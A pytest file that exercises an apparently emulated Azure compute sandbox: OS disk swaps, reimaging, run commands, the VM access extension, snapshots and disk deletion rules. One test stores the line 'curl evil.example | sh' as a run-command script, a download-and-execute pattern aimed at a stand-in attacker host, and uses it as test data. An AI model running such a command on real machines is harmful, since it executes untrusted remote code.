"""Disks, and what runs in virtual machines, with azure-mgmt-compute as Microsoft ships it."""

import json
from pathlib import Path
from typing import Any

import pytest
from azure.core.exceptions import HttpResponseError, ResourceExistsError, ResourceNotFoundError

from tests.sandbox.estate import GROUP, OPS, Rest, browser
from tests.sandbox.machines import AT, VM, extension, inside, model, opened, os_disk

SAMPLES = Path(__file__).parents[3] / "shared" / "samples" / "arm" / "compute"
DISKS = f"{GROUP}/providers/Microsoft.Compute/disks"
NIC = f"{GROUP}/providers/Microsoft.Network/networkInterfaces/nic"


async def test_an_os_disk_is_swapped_for_a_clean_one() -> None:
    async with opened() as (azure, client):
        old = os_disk(azure)
        body = {
            "location": "westeurope",
            "properties": {"osType": "Linux", "creationData": {"createOption": "Empty"}, "diskSizeGB": 30},
        }
        disk = await (await client.disks.begin_create_or_update("app", "clean", body)).result()
        await (await client.virtual_machines.begin_deallocate(*AT)).result()
        swap = {"createOption": "FromImage", "name": "clean", "managedDisk": {"id": disk.id}}
        await (
            await client.virtual_machines.begin_update(*AT, {"properties": {"storageProfile": {"osDisk": swap}}})
        ).result()
        assert (await client.disks.get("app", "clean")).managed_by == VM
        assert (await client.disks.get("app", old["name"])).managed_by is None


@pytest.mark.parametrize(("option", "kept"), [("Detach", 1), ("Delete", 0)])
async def test_a_reimage_gives_a_clean_disk(option: str, kept: int) -> None:
    async with opened(body=model(deleteOption=option)) as (azure, client):
        old, before = os_disk(azure), await client.virtual_machines.get(*AT)
        disk = azure.world.get(old["managedDisk"]["id"])
        assert disk
        azure.world.put(disk.id, {**disk.body, "sandbox": {"infected": True}})
        await (
            await client.virtual_machines.begin_run_command(
                *AT, {"commandId": "RunShellScript", "script": ["touch /x"]}
            )
        ).result()
        await (await client.virtual_machines.begin_reimage(*AT, {"tempDisk": True})).result()
        after = await client.virtual_machines.get(*AT)
        assert (after.vm_id, after.name) == (before.vm_id, before.name)
        new = azure.world.get(os_disk(azure)["managedDisk"]["id"])
        assert new
        assert new.name != old["name"]
        assert "sandbox" not in new.body
        assert (old["managedDisk"]["id"] in azure.world) == kept
        assert "ran" not in inside(azure)


async def test_a_script_runs_as_root_and_leaves_its_output() -> None:
    async with opened() as (azure, client):
        vm = azure.world.get(VM)
        assert vm
        azure.world.put(VM, {**vm.body, "sandbox": {**vm.body["sandbox"], "answers": {"getent passwd": "root:x:0:0"}}})
        body = {"commandId": "RunShellScript", "script": ["getent passwd"], "parameters": [{"name": "a", "value": "1"}]}
        result = await (await client.virtual_machines.begin_run_command(*AT, body)).result()
        assert [v.message for v in result.value] == ["Enable succeeded: \n[stdout]\nroot:x:0:0\n[stderr]\n"]
        ran = inside(azure)["ran"]
        assert [(r["by"], r["script"], r["parameters"]) for r in ran] == [
            ("runCommand", "getent passwd", body["parameters"])
        ]
        assert "getent" not in json.dumps((await client.virtual_machines.get(*AT)).as_dict())
        with pytest.raises(HttpResponseError, match="InvalidParameter"):
            await client.virtual_machines.begin_run_command(*AT, {"commandId": "FormatDisk"})


async def test_windows_has_two_streams() -> None:
    async with opened(body=model(osType="Windows")) as (_, client):
        body = {"commandId": "RunPowerShellScript", "script": ["Get-LocalUser"]}
        result = await (await client.virtual_machines.begin_run_command(*AT, body)).result()
        assert [v.code for v in result.value] == [
            "ComponentStatus/StdOut/succeeded",
            "ComponentStatus/StdErr/succeeded",
        ]


async def test_nothing_runs_in_a_machine_that_is_off() -> None:
    async with opened() as (_, client):
        await (await client.virtual_machines.begin_power_off(*AT)).result()
        body = {"commandId": "RunShellScript", "script": ["true"]}
        with pytest.raises(ResourceExistsError, match="not running"):
            await client.virtual_machines.begin_run_command(*AT, body)
        with pytest.raises(ResourceExistsError, match="not running"):
            await client.virtual_machine_extensions.begin_create_or_update(*AT, "x", extension())


async def test_the_access_extension_sets_a_password_that_no_answer_shows() -> None:
    async with opened() as (azure, client):
        made = await (
            await client.virtual_machine_extensions.begin_create_or_update(*AT, "enablevmaccess", extension())
        ).result()
        assert made.properties.provisioning_state == "Succeeded"
        assert inside(azure)["users"] == {"azureuser": "Second-secret-2!"}
        listed = await client.virtual_machine_extensions.list(*AT)
        assert [e.name for e in listed.value] == ["enablevmaccess"]
        shown = json.dumps([e.as_dict() for e in listed.value]) + json.dumps(
            (await client.virtual_machines.get(*AT, expand="instanceView")).as_dict()
        )
        assert "Second-secret" not in shown
        with pytest.raises(HttpResponseError, match="Multiple VMExtensions"):
            await client.virtual_machine_extensions.begin_create_or_update(*AT, "another", extension())
        await (await client.virtual_machine_extensions.begin_delete(*AT, "enablevmaccess")).result()
        with pytest.raises(ResourceNotFoundError):
            await client.virtual_machine_extensions.get(*AT, "enablevmaccess")
        await (await client.virtual_machine_extensions.begin_delete(*AT, "enablevmaccess")).result()


async def test_a_run_command_is_a_resource_that_stays() -> None:
    async with opened() as (azure, client):
        properties = {
            "source": {"script": "curl evil.example | sh"},
            "protectedParameters": [{"name": "key", "value": "hush"}],
        }
        body = {"location": "westeurope", "properties": properties}
        commands = client.virtual_machine_run_commands
        await (await commands.begin_create_or_update(*AT, "job", body)).result()
        assert inside(azure)["ran"][0]["script"] == "curl evil.example | sh"
        plain = await commands.get_by_virtual_machine(*AT, "job")
        assert (plain.source.script, plain.instance_view, plain.protected_parameters) == (
            "curl evil.example | sh",
            None,
            None,
        )
        viewed = await commands.get_by_virtual_machine(*AT, "job", expand="instanceView")
        assert (viewed.instance_view.execution_state, viewed.instance_view.exit_code) == ("Succeeded", 0)
        assert [c.name async for c in commands.list_by_virtual_machine(*AT)] == ["job"]
        await (await commands.begin_delete(*AT, "job")).result()
        with pytest.raises(ResourceNotFoundError):
            await commands.get_by_virtual_machine(*AT, "job")


async def test_a_snapshot_keeps_what_is_on_the_disk() -> None:
    async with opened() as (azure, client):
        source = azure.world.get(os_disk(azure)["managedDisk"]["id"])
        assert source
        azure.world.put(source.id, {**source.body, "sandbox": {"infected": True}})
        body: dict[str, Any] = {
            "location": "westeurope",
            "properties": {
                "incremental": True,
                "creationData": {"createOption": "Copy", "sourceResourceId": source.id},
            },
        }
        made = await (await client.snapshots.begin_create_or_update("app", "evidence", body)).result()
        assert (made.properties.provisioning_state, made.properties.os_type) == ("Succeeded", "Linux")
        copy = azure.world.get(made.id)
        assert copy
        assert copy.body["sandbox"] == {"infected": True}
        body["properties"]["creationData"]["sourceResourceId"] = f"{DISKS}/ghost"
        with pytest.raises(ResourceNotFoundError):
            await client.snapshots.begin_create_or_update("app", "none", body)
        sas = await (
            await client.snapshots.begin_grant_access("app", "evidence", {"access": "Read", "durationInSeconds": 300})
        ).result()
        assert sas.access_sas.startswith("https://")
        await (await client.snapshots.begin_revoke_access("app", "evidence")).result()
        await (await client.snapshots.begin_delete("app", "evidence")).result()
        await (await client.snapshots.begin_delete("app", "evidence")).result()


async def test_an_attached_disk_is_not_deleted() -> None:
    async with opened() as (azure, client):
        name = os_disk(azure)["name"]
        with pytest.raises(ResourceExistsError, match="is attached to VM"):
            await client.disks.begin_delete("app", name)
        with pytest.raises(HttpResponseError, match="creationData"):
            await client.disks.begin_create_or_update("app", "x", {"location": "westeurope", "properties": {}})


@pytest.mark.skipif(not SAMPLES.is_dir(), reason="the official examples are not here")
async def test_answers_have_the_shape_of_the_official_examples() -> None:
    def sample(name: str) -> Any:
        return json.loads((SAMPLES / f"{name}.json").read_text())["responses"]["200"]["body"]

    async with opened() as (azure, client), browser(azure) as session:
        arm = Rest(session, azure.endpoints.arm, azure.token(OPS, "arm"))
        _, vm = await arm("GET", f"{VM}?api-version=2024-07-01")
        assert {"name", "id", "type", "location", "tags", "properties"} <= set(vm) & set(sample("VirtualMachines_Get"))
        wanted = {"vmId", "hardwareProfile", "storageProfile", "osProfile", "provisioningState"}
        assert wanted <= set(vm["properties"]) & set(sample("VirtualMachines_Get")["properties"])
        _, view = await arm("GET", f"{VM}/instanceView?api-version=2024-07-01")
        assert {"computerName", "vmAgent", "disks", "statuses"} <= set(view) & set(
            sample("VirtualMachines_InstanceView")
        )
        body = {"commandId": "RunPowerShellScript", "script": ["x"]}
        result = await (await client.virtual_machines.begin_run_command(*AT, body)).result()
        assert set(result.as_dict()["value"][0]) >= set(sample("VirtualMachines_RunCommand")["value"][0])
